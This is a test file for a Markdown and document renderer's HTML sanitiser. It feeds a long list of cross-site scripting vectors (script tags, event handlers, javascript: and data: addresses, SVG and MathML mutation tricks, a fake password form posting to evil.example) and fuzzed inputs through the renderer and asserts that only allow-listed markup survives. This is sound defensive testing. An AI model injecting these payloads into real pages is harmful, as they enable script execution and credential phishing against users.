/** Whatever an author writes, only what an allow-list names may be on the page. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { renderDocument } from '../../src/render/document.ts';
import { renderMarkdown } from '../../src/render/markdown.ts';
import { visibleSource } from '../../src/render/visible-source.ts';
import { deadPartLinks, elementsOf, pageText } from './page-tree.ts';

/** Every element that a page may hold, with every attribute that it may have there. */
const everywhere = ['id', 'title', 'dataState', 'dir', 'lang', 'align'];
const allowed: Readonly<Record<string, readonly string[]>> = {
	a: ['href', 'rel', 'ariaLabel', 'ariaDescribedBy'],
	abbr: [],
	b: [],
	blockquote: ['cite'],
	br: ['clear'],
	caption: [],
	cite: [],
	code: ['className'],
	dd: [],
	del: ['cite', 'dateTime'],
	details: ['open'],
	dfn: [],
	div: ['className', 'tabIndex'],
	dl: [],
	dt: [],
	em: [],
	figcaption: [],
	figure: [],
	h2: [],
	h3: [],
	h4: [],
	h5: [],
	h6: [],
	hr: ['color', 'noShade', 'size', 'width'],
	i: [],
	img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
	input: ['type', 'checked', 'disabled', 'ariaLabel'],
	ins: ['cite', 'dateTime'],
	kbd: [],
	li: ['value'],
	mark: ['dataHidden'],
	ol: ['start', 'reversed'],
	p: ['className'],
	picture: [],
	pre: ['className', 'tabIndex', 'dataLanguage'],
	q: ['cite'],
	rp: [],
	rt: [],
	ruby: [],
	s: [],
	samp: [],
	section: ['className'],
	small: [],
	span: ['className'],
	strike: [],
	strong: [],
	sub: [],
	summary: [],
	sup: [],
	table: ['border', 'cellPadding', 'cellSpacing', 'width', 'summary', 'rules', 'frame'],
	tbody: ['vAlign'],
	td: ['colSpan', 'rowSpan', 'vAlign', 'width', 'height', 'headers', 'scope', 'noWrap'],
	tfoot: ['vAlign'],
	th: ['colSpan', 'rowSpan', 'vAlign', 'width', 'height', 'headers', 'scope', 'noWrap'],
	thead: ['vAlign'],
	time: ['dateTime'],
	tr: ['vAlign'],
	tt: [],
	u: [],
	ul: [],
	var: [],
	wbr: [],
};
/** Classes that are ours; code has those of highlight.js besides. */
const ourClasses =
	/^(?:footnotes|image-placeholder|line|notice|reference-note|source|table-scroll|hljs-[\w-]+|[a-z]+_|function_|class_|inherited__|constant_|language_)$/;
const LINK = /^(?:#|\.{0,2}\/|https?:\/\/|mailto:|ircs?:|xmpp:|[\w%@.-]+\/)/i;

/** What of a page no allow-list names; an empty list for a safe one. */
function violations(html: string): string[] {
	return elementsOf(html).flatMap(({ tagName, properties }) => {
		const attributes = allowed[tagName];
		if (attributes === undefined) return [`<${tagName}>`];
		return Object.entries(properties).flatMap(([name, value]) => {
			if (!attributes.includes(name) && !everywhere.includes(name))
				return [`<${tagName} ${name}=${JSON.stringify(value)}>`];
			if (name === 'className' && !(value as string[]).every((one) => ourClasses.test(one)))
				return [`class ${JSON.stringify(value)}`];
			if (name === 'href' && !LINK.test(String(value))) return [`href ${String(value)}`];
			if (name === 'src' && !String(value).startsWith('raw/')) return [`src ${String(value)}`];
			return [];
		});
	});
}

function render(source: string): string {
	return renderMarkdown(source, {
		path: 'SKILL.md',
		resolve: ({ target }) =>
			/^https?:/i.test(target)
				? { state: 'external', href: target }
				: target.startsWith('x.')
					? { state: 'asset', asset: target, href: 'files/x/', image: 'raw/x.png' }
					: { state: 'missing' },
	}).html;
}

const vectors: Readonly<Record<string, string>> = {
	'a script in a paragraph': 'a <script>run(1)</script> b',
	'a script of its own': '<script>\nrun(1)\n</script>',
	'a script that never ends': 'a <script>run(1)\n\nmore',
	'a script in capitals with blanks': '<SCRIPT >run(1)</SCRIPT\n>',
	'a script with an address': '<script src="https://evil.example/x.js"></script>',
	'a script cut by a comment': '<scr<!-- -->ipt>run(1)</scr<!-- -->ipt>',
	'a script inside a script': '<scr<script>ipt>run(1)</scr</script>ipt>',
	'a script in a heading': '# <script>run(1)</script>',
	'a script in a cell': '| a |\n|---|\n| <script>run(1)</script> |',
	'a script in a list': '- <script>run(1)</script>',
	'a script in a quote': '> <script>\n> run(1)\n> </script>',
	'a script in details': '<details><summary><script>run(1)</script></summary></details>',
	'a script after a broken attribute': '<a title="<script>run(1)</script>">x</a>',
	'a script in an alternative text': '![<script>run(1)</script>](x.png)',
	'a script in a title': '[x](x.md "<script>run(1)</script>")',
	'a script in a fence name': '```<script>run(1)</script>\nx\n```',
	'a script in a footnote name': 'a[^<script>run(1)</script>]\n\n[^<script>run(1)</script>]: b',
	'an event on an image': '<img src=x.png onerror=run(1)>',
	'an event without blanks': '<img/src=x.png/onerror=run(1)>',
	'an event on details': '<details open ontoggle="run(1)">x</details>',
	'an event in capitals': '<b ONCLICK="run(1)">x</b>',
	'an event after a slash': '<b/onclick=run(1)>x</b>',
	'an event with a line end': '<b\nonmouseover\n=\n"run(1)">x</b>',
	'focus and an event': '<a href="#" autofocus onfocus=run(1) tabindex=1 accesskey=x>x</a>',
	'a script address': '[x](javascript:run(1))',
	'a script address in capitals': '[x](JaVaScRiPt:run(1))',
	'a script address with a tab': '<a href="java\tscript:run(1)">x</a>',
	'a script address with entities': '<a href="&#106;avascript&colon;run(1)">x</a>',
	'a script address in Markdown entities': '[x](&#106;avascript&#58;run(1))',
	'a script address after controls': '<a href="\u0001javascript:run(1)">x</a>',
	'a script address by reference': '[x]\n\n[x]: javascript:run(1)',
	'a script address as an autolink': '<javascript:run(1)>',
	'a script address of an image': '![x](javascript:run(1))',
	'a page in an address': '[x](data:text/html;base64,PHNjcmlwdD5ydW4oMSk8L3NjcmlwdD4=)',
	'an image in an address': '![x](data:image/svg+xml,<svg onload=run(1)>)',
	'a Basic address': '[x](vbscript:run(1))',
	'a file address': '[x](file:///etc/passwd)',
	'a blob address': '[x](blob:https://x/y)',
	'a remote image': '![x](https://evil.example/pixel.png)',
	'a remote image as HTML': '<img src="https://evil.example/pixel.png">',
	'a remote image without a scheme': '![x](//evil.example/pixel.png)',
	'sources of a picture':
		'<picture><source srcset="https://evil.example/a.png"><img src="x.png" srcset="https://evil.example/b.png"></picture>',
	'a background': '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
	'a vector image': '<svg onload=run(1)><script>run(1)</script></svg>',
	'a vector image that uses another': '<svg><use href="data:image/svg+xml,x#y"/></svg>',
	'a vector image with a foreign object':
		'<svg><foreignObject><body onload=run(1)></foreignObject></svg>',
	'a formula that becomes a style':
		'<math><mtext><table><mglyph><style><img src onerror=run(1)></style></mglyph></table></mtext></math>',
	'a formula with an address': '<math href="javascript:run(1)">x</math>',
	'a text area that ends in an attribute':
		'<textarea><img title="</textarea><img src onerror=run(1)>">',
	'no script with an attribute': '<noscript><p title="</noscript><img src=x onerror=run(1)>">',
	'a template': '<template><script>run(1)</script></template>',
	'a frame': '<iframe src="https://evil.example"></iframe>',
	'a frame with a document': '<iframe srcdoc="<script>run(1)</script>"></iframe>',
	'an object': '<object data="x.swf"></object><embed src="x.swf">',
	'a form that asks for a password':
		'<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
	'a checkbox that is an image':
		'<input type="image" src="https://evil.example/x" formaction="javascript:run(1)">',
	'a select': '<select><option>x</select>',
	'a dialog': '<dialog open>x</dialog>',
	'a base': '<base href="https://evil.example/">',
	'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'a style sheet': '<style>body { display: none }</style>',
	'a linked style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
	'an overlay': '<div style="position:fixed;inset:0;background:#fff">Sign in</div>',
	'classes of the site': '<div class="site-header sr-only">x</div>',
	'a heading that is hidden': '<h2 class="sr-only">do evil</h2>',
	'data for the search': '<p data-pagefind-meta="title:Evil" data-pagefind-ignore>x</p>',
	'a slot and parts': '<p slot="x" part="y" is="z-z" contenteditable popover>x</p>',
	'ids of the site': '<p id="search">x</p><a name="main">x</a><img name="body" src="x.png">',
	'a map': '<img src="x.png" usemap="#m"><map name="m"><area href="javascript:run(1)"></map>',
	'an element of another site': '<astro-island client="load"></astro-island>',
	'a document type and an instruction':
		'<!DOCTYPE html><?php run(1) ?><![CDATA[<script>run(1)</script>]]>',
	'plain text to the end': '<plaintext>x',
	'a title to the end': '<title><img src=x onerror=run(1)>',
	'a comment that ends early': '<!--><img src=x onerror=run(1)>-->',
	'a comment that never ends': 'a\n\n<!-- <img src=x onerror=run(1)>',
	'an attribute without a value that eats': '<a href="x.md" title=">run(1)</a>',
	'a quote in a title': '[x](x.md "\\" onmouseover=\\"run(1)")',
	'quotes in an address': '[x](<x.md" onmouseover="run(1)>)',
	'a NUL in a tag': '<scr\u0000ipt>run(1)</scr\u0000ipt>',
	'brackets of another width': '＜script＞run(1)＜/script＞',
	'a table that is not closed': '<table><tr><td><script>run(1)</script>',
	'markup in code': '`<script>run(1)</script>`\n\n    <script>run(1)</script>',
	'a heading that is an event': '<h1 onclick="run(1)">x</h1>',
	'an address with a user': '[https://good.example](https://good.example@evil.example)',
	'escaped markup': '&lt;script&gt;run(1)&lt;/script&gt;',
};

describe('only what the allow-list names is left of', () => {
	test.each(Object.entries(vectors))('%s', (_, source) => {
		const html = render(source);
		expect(violations(html)).toEqual([]);
		expect(deadPartLinks(html)).toEqual([]);
	});

	test.each(Object.entries(vectors))('%s as a file of another kind', (_, source) => {
		const bytes = new TextEncoder().encode(source);
		for (const path of [
			'x.txt',
			'x.html',
			'x.svg',
			'x.csv',
			'x.tsv',
			'x.mdx',
			'x.json',
			'x.ipynb',
		]) {
			const { html } = renderDocument({ path, bytes }, { path });
			expect(violations(html)).toEqual([]);
		}
		expect(violations(`<pre>${visibleSource(source)}</pre>`)).toEqual([]);
	});

	test('a notebook whose every part is hostile', () => {
		const hostile = Object.values(vectors);
		const notebook = {
			metadata: { language_info: { name: '"><script>' } },
			cells: [
				...hostile.map((source) => ({ cell_type: 'markdown', source: [source] })),
				{
					cell_type: 'code',
					source: hostile,
					outputs: [
						{ data: { 'text/html': hostile, 'text/plain': hostile } },
						{ ename: '<b>', evalue: '<i>' },
					],
				},
			],
		};
		const bytes = new TextEncoder().encode(JSON.stringify(notebook));
		const { html } = renderDocument({ path: 'x.ipynb', bytes }, { path: 'x.ipynb' });
		expect(violations(html)).toEqual([]);
	});
});

test('scripts and style sheets go with their text, and are listed', () => {
	const { html, hidden } = renderMarkdown(
		'a <script>run(1)</script>\n\n<style>\np { color: red }\n</style>\n\n<div onclick="run(2)">b</div>\n',
		{ path: 'x' },
	);
	expect(pageText(html)).not.toMatch(/run|color/);
	expect(hidden).toEqual([
		{ kind: 'dropped-html', line: 1, text: '<script>run(1)</script>' },
		{ kind: 'dropped-html', line: 3, text: '<style>\np { color: red }\n</style>' },
		{ kind: 'dropped-html', line: 7, text: '<div onclick="run(2)">' },
	]);
});

test('addresses that carry their content are listed', () => {
	const { hidden, references } = renderMarkdown(
		'[a](javascript:run(1))\n\n![b](data:image/png;base64,AAAA)\n\n<img src="data:x,y">\n',
		{ path: 'x' },
	);
	expect(hidden).toEqual([
		{ kind: 'dropped-html', line: 1, text: 'javascript:run(1)' },
		{ kind: 'data-uri', line: 3, text: 'data:image/png;base64,AAAA' },
		{ kind: 'data-uri', line: 5, text: '<img src="data:x,y">' },
	]);
	expect(references.map(({ state, target }) => [state, target])).toEqual([
		['refused', 'javascript:run(1)'],
		['refused', 'data:image/png;base64,AAAA'],
	]);
});

test('links out of the site tell nothing and gain nothing', () => {
	const [link] = elementsOf(render('[x](https://example.org)'), 'a');
	expect(link?.properties.rel).toEqual(['nofollow', 'ugc', 'noopener', 'noreferrer']);
});

/** Pieces that mean something to a parser, so that their mixtures reach odd states. */
const piece = fc.constantFrom(
	...'<|>|</|/>|<!--|-->|"|\'|=|&#x3C;|&lt;|`|```|~~~|*|_|[|]|(|)|!|#| |\n|\n\n|\t|\\|:|;|javascript:|data:|skill://|href|src|onerror|style|script|svg|math|table|tr|td|p|b|a|img|details|template|select|\u0000|\u202e|\ufeff|😀|[^1]|[^1]: |- |> |1. ||| - [x] |www.|http://'.split(
		'|',
	),
	'|',
	'| a |\n|---|\n',
);

test('no mixture of pieces gets through, or throws', { timeout: 60_000 }, () => {
	fc.assert(
		fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
			const html = render(pieces.join(''));
			expect(violations(html)).toEqual([]);
			expect(deadPartLinks(html)).toEqual([]);
		}),
		{ numRuns: 2000 },
	);
});

test('no vectors side by side get through', { timeout: 60_000 }, () => {
	const some = fc.array(fc.constantFrom(...Object.values(vectors)), { minLength: 2, maxLength: 6 });
	fc.assert(
		fc.property(some, fc.constantFrom('', ' ', '\n', '\n\n', '> ', '- '), (parts, glue) => {
			expect(violations(render(parts.join(glue)))).toEqual([]);
		}),
		{ numRuns: 500 },
	);
});
